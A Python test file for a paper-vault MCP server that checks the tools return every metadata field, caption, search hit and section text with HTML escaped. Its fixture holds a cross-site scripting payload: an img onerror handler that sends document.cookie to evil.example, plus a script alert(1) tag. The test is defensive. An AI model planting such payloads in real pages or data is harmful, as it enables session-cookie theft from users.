"""One rule for every field an agent receives: the MCP tools give titles, authors, venues, abstracts, section
titles, captions, notes and search hits as text (`&lt;img ...`), the way `read` gives a paper's text, so a client
that renders an answer loads and runs nothing from a paper, a bibliography or a shared vault."""

from __future__ import annotations

import json

from mcp_server.tools import VaultTools
from papervault.index.store import PaperIndex
from papervault.workspace import Workspace
from support_llm import make_paper_vault

PID = "doe2020widgets"
TAG = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">'
TEXT = (f'<a id="page-1"></a>\n\n# Widgets {TAG}\n\n## 1 Intro {TAG}\n\nWidget scaling with leases and quorums.\n\n'
        f'![Figure 1: Latency {TAG}](figures/fig-1.png)\n\n'
        '<a id="page-2"></a>\n\n## 2 Design\x0cwith a form feed\n\nThe design section text.\u2028Next line.\n')


def _raw_markup(answer) -> list[str]:
    """Every string of an answer that still holds an HTML tag a client would render."""
    out = []

    def walk(v):
        if isinstance(v, str):
            if "<img" in v or "<script" in v:
                out.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)
    walk(answer)
    return out


def test_every_field_an_agent_receives_is_text(workspace_env):
    from conftest import without_multilingual

    ws, _ = Workspace.init(workspace_env)
    without_multilingual(ws.root)
    make_paper_vault(ws.root, PID, text=TEXT, title=f"Widgets {TAG}", authors=[f"Jane {TAG} Doe"],
                     venue=f"OSDI<script>alert(1)</script>", abstract=f"We scale widgets. {TAG}", tags=["scheduling"])
    PaperIndex(Workspace(ws.root)).sync()
    tools = VaultTools(Workspace(ws.root))

    answers = {"list_papers": tools.list_papers(), "get_paper": tools.get_paper(PID),
               "search": tools.search("widget scaling leases quorums"), "read": tools.read(PID),
               "read_section": tools.read(PID, section="2 Design"), "status": tools.status()}
    for name, answer in answers.items():
        assert not _raw_markup(answer), (name, _raw_markup(answer))
    [paper] = answers["list_papers"]["papers"]
    assert paper["title"] == "Widgets &lt;img src=x onerror=\"fetch(`//evil.example/`+document.cookie)\">"
    assert paper["authors"] == ["Jane &lt;img src=x onerror=\"fetch(`//evil.example/`+document.cookie)\"> Doe"]
    meta = answers["get_paper"]["meta"]
    assert meta["venue"] == "OSDI&lt;script>alert(1)&lt;/script>" and "&lt;img" in meta["abstract"]
    assert any("&lt;img" in f["caption"] for f in answers["get_paper"]["figures"])
    hits = answers["search"]["hits"]
    assert hits and all("&lt;img" in h["title"] for h in hits), json.dumps(hits)[:500]
    # a section is cut with the lines the reader numbered it by, form feeds and U+2028 in its text
    section = answers["read_section"]["text"]
    assert section.startswith("## 2 Design\x0cwith a form feed") and "Next line." in section
